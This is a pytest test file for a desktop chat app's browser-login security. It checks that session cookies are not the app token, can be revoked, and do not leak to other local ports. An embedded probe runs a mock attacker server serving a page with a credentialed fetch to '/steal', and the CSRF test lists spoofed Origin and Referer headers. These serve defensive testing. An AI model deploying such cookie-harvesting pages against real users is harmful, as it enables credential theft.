"""Red-team finding 1: the app token travelled in a cookie to every server on 127.0.0.1.

Now a browser holds only a session value that is not the token, lives on the install's own
``.localhost`` host name, expires, and can be revoked; requests that rely on it must come
from our own pages. Tried over real HTTP, and with a real browser (QtWebEngine, offscreen,
in a child process) against an attacker's server on another port of 127.0.0.1.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import textwrap
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from plexichat_desktop.core.paths import AppPaths
from plexichat_desktop.core.settings import Settings
from plexichat_desktop.runtime import Runtime, RuntimeOptions
from tests.conftest import FIXTURE_PLUGINS, REPO, RunningCore, module_core

# The tests whose sessions, codes and checks are their own share one core with the fixture
# plugins (``shared``), in the module's event loop; the one that counts the browser
# sessions and changes their lifetime starts its own.
pytestmark = pytest.mark.asyncio(loop_scope="module")
OWN_CORE = pytest.mark.asyncio(loop_scope="function")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def shared(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[RunningCore]:
    async with module_core(tmp_path_factory.mktemp("browser-login"), FIXTURE_PLUGINS) as core:
        yield core


async def sign_in(core, next_path: str = "/healthz") -> tuple[str, str]:
    """Log in as a browser would; (install host:port, session cookie value)."""
    identity = core.runtime.identity
    install = f"{identity.install_host}:{core.port}"
    r = await core.anonymous.get("/login", params={"token": core.token, "next": next_path})
    path = r.headers["location"].split(install, 1)[1]
    r = await core.anonymous.get(path, headers={"Host": install})
    assert r.status_code == 303
    cookie = next(c for c in r.headers.get_list("set-cookie")
                  if c.startswith(f"plexichat_session_{core.port}="))
    return install, cookie.split(";", 1)[0].split("=", 1)[1]


def cookie_header(core, value: str) -> dict[str, str]:
    return {"Cookie": f"plexichat_session_{core.port}={value}"}


async def test_the_browser_cookie_is_no_token_and_worthless_elsewhere(shared, tmp_path):
    core = shared
    install, value = await sign_in(core)
    assert value != core.token and core.token not in value
    ours = {"Host": install, **cookie_header(core, value)}
    assert (await core.anonymous.get("/healthz", headers=ours)).status_code == 200
    # What another local server could collect from the browser is useless as a credential:
    # not as a Bearer token, not as the app token for the v1 API, not on 127.0.0.1.
    for headers in ({"Authorization": f"Bearer {value}"},
                    {"Host": f"127.0.0.1:{core.port}", **cookie_header(core, value)},
                    {"Host": f"localhost:{core.port}", **cookie_header(core, value)},
                    {"Cookie": f"plexichat_token_{core.port}={value}"}):
        assert (await core.anonymous.get("/healthz", headers=headers)).status_code == 401
    r = await core.anonymous.post("/api/v1/auth/register", headers={
        "X-PlexiChat-App-Token": value}, json={
        "username": "mallory", "email": "m@example.org", "password": "Corr3ct-Horse-Battery"})
    assert r.status_code == 201 and r.json()["user"]["is_admin"] is False
    # Nor at another PlexiChat server on another port (another install, another user).
    root = tmp_path / "other"
    settings = Settings()
    settings.server.port = 0
    runtime = Runtime(AppPaths(root / "config", root / "data", root / "cache", root / "logs"),
                      settings, RuntimeOptions(bundled=False, include_installed=False))
    other = RunningCore(runtime, await runtime.start())
    try:
        other_install = f"{other.runtime.identity.install_host}:{other.port}"
        assert other_install != install
        for host in (other_install, f"127.0.0.1:{other.port}"):
            r = await other.anonymous.get("/healthz", headers={
                "Host": host, "Cookie": f"plexichat_session_{other.port}={value}"})
            assert r.status_code == 401
    finally:
        await other.client.aclose()
        await other.anonymous.aclose()
        await runtime.stop()


@OWN_CORE
async def test_logout_revoke_all_and_expiry_end_browser_sessions(start_core):
    settings = Settings()
    core = await start_core(FIXTURE_PLUGINS, settings=settings)
    install, first = await sign_in(core)
    _, second = await sign_in(core)
    origin = {"Origin": f"http://{install}"}
    # POST /logout ends this browser's session only.
    r = await core.anonymous.post("/logout", headers={
        "Host": install, **origin, **cookie_header(core, first)})
    assert r.status_code == 200 and r.json() == {"signed_out": True}
    assert r.headers["cache-control"] == "no-store"
    assert f"plexichat_session_{core.port}=" in r.headers["set-cookie"]
    assert (await core.anonymous.get("/healthz", headers={
        "Host": install, **cookie_header(core, first)})).status_code == 401
    assert (await core.anonymous.get("/healthz", headers={
        "Host": install, **cookie_header(core, second)})).status_code == 200
    # "Sign out all browsers": the runtime function the window calls, and its endpoint.
    assert (await core.client.get("/api/browser-sessions")).json()["active"] == 1
    assert core.runtime.sign_out_browsers() == 1
    assert (await core.anonymous.get("/healthz", headers={
        "Host": install, **cookie_header(core, second)})).status_code == 401
    _, third = await sign_in(core)
    r = await core.client.post("/api/browser-sessions/revoke-all")
    assert r.json() == {"revoked": 1}
    assert (await core.anonymous.get("/healthz", headers={
        "Host": install, **cookie_header(core, third)})).status_code == 401
    # Sessions expire: a lifetime of a fraction of a second runs out.
    core.runtime.identity.sessions.lifetime = 0.2
    _, short = await sign_in(core)
    async with asyncio.timeout(10):
        while (await core.anonymous.get("/healthz", headers={
                "Host": install, **cookie_header(core, short)})).status_code == 200:
            await asyncio.sleep(0.05)


@OWN_CORE
async def test_a_browsers_open_stream_ends_with_its_session(start_core):
    """An open page went on getting events after "Sign out all browsers" (or its own
    sign-out): the session was checked when the stream began only."""
    core = await start_core(FIXTURE_PLUGINS, settings=Settings())

    async def opened(value: str) -> tuple[Any, Any]:
        stream = core.anonymous.stream("GET", "/_live/stream", headers={
            "Host": install, **cookie_header(core, value)}, timeout=30)
        response = await stream.__aenter__()
        assert response.status_code == 200
        chunks = response.aiter_text()
        seen = ""
        async with asyncio.timeout(10):
            while "hello" not in seen:  # the hub's first event: it streams
                seen += await anext(chunks)
        return stream, chunks

    async def ends(chunks: Any) -> None:
        async with asyncio.timeout(10):  # a bound on failure, not a speed figure
            async for _ in chunks:
                pass

    install, first = await sign_in(core)
    _, second = await sign_in(core)
    first_stream, first_chunks = await opened(first)
    second_stream, second_chunks = await opened(second)
    try:
        # One browser signs out: its stream ends, the other's goes on.
        r = await core.anonymous.post("/logout", headers={
            "Host": install, "Origin": f"http://{install}", **cookie_header(core, first)})
        assert r.status_code == 200
        await ends(first_chunks)
        assert core.runtime.identity.sessions._watchers  # the second is still watched
        # "Sign out all browsers": every stream ends.
        assert core.runtime.sign_out_browsers() == 1
        await ends(second_chunks)
        assert not core.runtime.identity.sessions._watchers
        # Asked again, the browser is told it is signed out.
        again = await core.anonymous.get("/_live/stream", headers={
            "Host": install, **cookie_header(core, second)})
        assert again.status_code == 401
    finally:
        for stream in (first_stream, second_stream):
            await stream.__aexit__(None, None, None)


async def test_a_login_link_is_a_one_time_code_not_the_token(shared):
    core = shared
    link = core.runtime.browser_login_link("/plugins/good_plugin/")
    identity = core.runtime.identity
    install = f"{identity.install_host}:{core.port}"
    assert link.startswith(f"http://{install}/login?code=") and core.token not in link
    path = link.split(install, 1)[1]
    r = await core.anonymous.get(path, headers={"Host": install})
    assert r.status_code == 303 and r.headers["location"] == "/plugins/good_plugin/"
    assert "plexichat_session_" in r.headers["set-cookie"]
    r = await core.anonymous.get(path, headers={"Host": install})  # used up
    assert r.status_code == 401 and "plexichat_session_" not in r.headers.get("set-cookie", "")
    # A browser session cannot mint links (it would outlive its own expiry that way).
    _, value = await sign_in(core)
    r = await core.anonymous.post("/api/browser-sessions/login-link", headers={
        "Host": install, "Origin": f"http://{install}", **cookie_header(core, value)})
    assert r.status_code == 403
    # Over HTTP, for the window or a script holding the token.
    r = await core.client.post("/api/browser-sessions/login-link", params={"next": "/"})
    assert r.json()["url"].startswith(f"http://{install}/login?code=")
    # A code is redeemed on the install host only: elsewhere it moves there, unused.
    code_path = r.json()["url"].split(install, 1)[1]
    r = await core.anonymous.get(code_path)
    assert r.status_code == 303 and r.headers["location"].startswith(f"http://{install}/")
    assert "plexichat_session_" not in r.headers.get("set-cookie", "")
    r = await core.anonymous.get(code_path, headers={"Host": install})
    assert r.status_code == 303 and "plexichat_session_" in r.headers["set-cookie"]


async def test_cookie_requests_that_change_state_must_come_from_our_pages(shared):
    core = shared
    install, value = await sign_in(core)
    jar = {"Host": install, **cookie_header(core, value)}
    url = "/api/plugins/good_plugin/disable"
    refused = [
        {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Site": "same-site"},
        {"Sec-Fetch-Site": "none"}, {"Referer": "http://127.0.0.1:9/attack.html"},
        {"Referer": f"http://{install.split(':')[0]}:1/x"}, {"Origin": "http://127.0.0.1:9"},
        {"Origin": "null"},
    ]
    for extra in refused:
        r = await core.anonymous.post(url, headers={**jar, **extra})
        assert r.status_code == 403, extra
    assert (await core.client.get("/api/plugins/good_plugin")).json()["state"] == "active"
    for extra in ({"Sec-Fetch-Site": "same-origin"}, {"Referer": f"http://{install}/"},
                  {"Origin": f"http://{install}"}, {}):
        r = await core.anonymous.post(url, headers={**jar, **extra})
        assert r.status_code == 200, (extra, r.text)
        await core.client.post("/api/plugins/good_plugin/enable")
    # A program sending the token itself carries no ambient credential: not refused.
    r = await core.client.post(url, headers={"Sec-Fetch-Site": "cross-site"})
    assert r.status_code == 200
    await core.client.post("/api/plugins/good_plugin/enable")  # as found, for the next test


BROWSER_PROBE = textwrap.dedent('''
    """A real browser (QtWebEngine) signs in, then visits an attacker's server on another
    port of 127.0.0.1; prints what each side saw as one JSON line."""
    import asyncio, json, os, sys

    from plexichat_desktop.gui.environment import prepare_qt_environment
    prepare_qt_environment()
    from PySide6.QtWebEngineWidgets import QWebEngineView
    from PySide6.QtCore import QUrl
    from PySide6.QtWidgets import QApplication
    import qasync

    from plexichat_desktop.core.paths import AppPaths
    from plexichat_desktop.core.settings import Settings
    from plexichat_desktop.runtime import Runtime, RuntimeOptions

    seen = []

    async def attacker(reader, writer):
        head = await reader.readuntil(b"\\r\\n\\r\\n")
        seen.append(head.decode("latin-1"))
        page = (b"<html><body>attacker<script>fetch('/steal', {credentials: 'include'})"
                b"</script></body></html>")
        writer.write(b"HTTP/1.1 200 OK\\r\\nContent-Type: text/html\\r\\nContent-Length: "
                     + str(len(page)).encode() + b"\\r\\nConnection: close\\r\\n\\r\\n" + page)
        await writer.drain()
        writer.close()

    async def load(view, url):
        done = asyncio.get_running_loop().create_future()
        def finished(ok):
            if not done.done():
                done.set_result(ok)
        view.loadFinished.connect(finished)
        view.load(QUrl(url))
        await asyncio.wait_for(done, 30)
        view.loadFinished.disconnect(finished)
        await asyncio.sleep(0.3)  # let the page's own fetches go out
        text = asyncio.get_running_loop().create_future()
        view.page().runJavaScript("document.body ? document.body.innerText : ''", 0,
                                  lambda value: text.done() or text.set_result(value))
        return view.url().toString(), await asyncio.wait_for(text, 10)

    async def main():
        settings = Settings()
        settings.server.port = 0
        runtime = Runtime(AppPaths.from_env(), settings,
                          RuntimeOptions(bundled=False, include_installed=False))
        await runtime.start()
        server = await asyncio.start_server(attacker, "127.0.0.1", 0)
        evil = server.sockets[0].getsockname()[1]
        view = QWebEngineView()
        out = {"token": runtime.token, "install": runtime.identity.install_host}
        try:
            out["login"] = await load(view, runtime.url + "login?token=" + runtime.token
                                      + "&next=/healthz")
            out["attacker"] = [await load(view, f"http://127.0.0.1:{evil}/"),
                               await load(view, f"http://localhost:{evil}/")]
            await asyncio.sleep(0.5)
            out["again"] = await load(view, f"http://{runtime.identity.install_host}:"
                                            f"{runtime.server.port}/healthz")
            out["seen"] = seen
        finally:
            view.deleteLater()
            await asyncio.sleep(0.1)
            server.close()
            await runtime.stop()
        print("RESULT " + json.dumps(out), flush=True)

    app = QApplication(sys.argv)
    app.setQuitOnLastWindowClosed(False)
    loop = qasync.QEventLoop(app)
    asyncio.set_event_loop(loop)
    with loop:
        loop.run_until_complete(main())
    sys.stdout.flush()
    os._exit(0)  # skip QtWebEngine's exit-time teardown (see tests/gui/conftest.py)
''')


async def test_a_real_browser_gives_an_attackers_port_nothing(tmp_path: Path) -> None:
    script = tmp_path / "probe.py"
    script.write_text(BROWSER_PROBE)
    env = {**os.environ, "PLEXICHAT_DESKTOP_HOME": str(tmp_path / "home"),
           "QT_QPA_PLATFORM": "offscreen", "PYTHONPATH": str(REPO)}
    env = {k: v for k, v in env.items()
           if not (k.startswith("PLEXICHAT_DESKTOP_") and "__" in k)}
    proc = await asyncio.to_thread(subprocess.run, [sys.executable, str(script)], env=env,
                                   capture_output=True, text=True, timeout=180, check=False)
    lines = [line for line in proc.stdout.splitlines() if line.startswith("RESULT ")]
    assert lines, proc.stderr[-3000:]
    result = json.loads(lines[-1][len("RESULT "):])
    token, install = result["token"], result["install"]
    # The browser signed in: it ended on the install host, with the page served.
    url, text = result["login"]
    assert url.startswith(f"http://{install}:") and url.endswith("/healthz"), url
    assert '"status":"ok"' in text.replace(" ", ""), text
    assert token not in url
    # The attacker's pages (and their same-origin fetches) got no cookie of ours.
    assert [page[1] for page in result["attacker"]] == ["attacker", "attacker"]
    assert len(result["seen"]) >= 4, result["seen"]  # two pages, two fetches
    for request in result["seen"]:
        assert token not in request
        assert "plexichat_" not in request.lower(), request
    # And the browser still holds its session for our server.
    assert '"status":"ok"' in result["again"][1].replace(" ", "")


async def test_a_download_without_a_length_runs_to_its_end_after_sign_out():
    """Review: every response without a Content-Length was ended at sign-out, so an
    export streamed to a browser (the Data Visualizer's CSV) ended early and looked
    complete. Only event streams end; the next request gets the 401."""
    import socket

    import httpx
    import uvicorn
    from starlette.applications import Starlette
    from starlette.responses import StreamingResponse
    from starlette.routing import Route

    from plexichat_desktop.server.security import SecurityMiddleware, ServerIdentity, cookie_name

    rows = 200

    async def export(_request: Any) -> StreamingResponse:
        async def lines() -> AsyncIterator[str]:
            for n in range(rows):
                yield f"{n},row\n" * 50
                await asyncio.sleep(0.002)
        return StreamingResponse(lines(), media_type="text/csv")

    identity = ServerIdentity("test-token")
    app = SecurityMiddleware(Starlette(routes=[Route("/export", export)]), identity,
                             lambda _detail, _path: b"")
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    identity.port = port = sock.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, log_level="error", lifespan="off"))
    serving = asyncio.create_task(server.serve(sockets=[sock]))
    try:
        async with asyncio.timeout(10):
            while not server.started:
                await asyncio.sleep(0.01)
        session = identity.sessions.create()
        headers = {"Host": f"{identity.install_host}:{port}",
                   "Cookie": f"{cookie_name(port)}={session}"}
        body = b""
        async with httpx.AsyncClient(timeout=30) as client:
            async with client.stream("GET", f"http://127.0.0.1:{port}/export",
                                     headers=headers) as response:
                async for chunk in response.aiter_raw():
                    body += chunk
                    if len(body) > 5_000 and identity.sessions.valid(session):
                        identity.sessions.revoke(session)
            assert body.count(b"row\n") == rows * 50
            after = await client.get(f"http://127.0.0.1:{port}/export", headers=headers)
            assert after.status_code == 401
    finally:
        server.should_exit = True
        await serving
